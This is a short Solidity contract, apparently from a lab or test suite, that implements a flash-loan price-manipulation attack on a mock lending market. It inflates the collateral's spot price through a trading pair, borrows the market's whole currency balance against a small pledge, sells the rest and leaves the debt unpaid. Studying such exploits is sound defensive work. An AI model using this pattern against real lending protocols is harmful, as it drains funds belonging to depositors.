// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FlashBorrower, FlashLender} from "./FlashLender.sol";
import {IERC20} from "./IERC20.sol";
import {LendingMarket} from "./LendingMarket.sol";
import {Pair, Trader} from "./Pair.sol";

/// @title Attack: buys collateral with a flash loan until its price is absurd, borrows all that the market has against
/// a little of it, sells the rest back, and leaves the debt.
contract PriceManipulator is FlashBorrower, Trader {
    LendingMarket private immutable market;

    constructor(FlashLender lender, LendingMarket market_) FlashBorrower(lender) {
        market = market_;
    }

    function attack(uint256 amount) external {
        borrowAndUse(market.currency(), amount);
    }

    function use(uint256 amount) internal override {
        (Pair pair, IERC20 collateral, IERC20 currency) = (market.pair(), market.collateral(), market.currency());
        uint256 bought = sell(pair, currency, amount, address(this));
        uint256 pledged = bought / 10;
        collateral.approve(address(market), pledged);
        market.deposit(pledged);
        market.borrow(currency.balanceOf(address(market)));
        sell(pair, collateral, bought - pledged, address(this));
    }
}
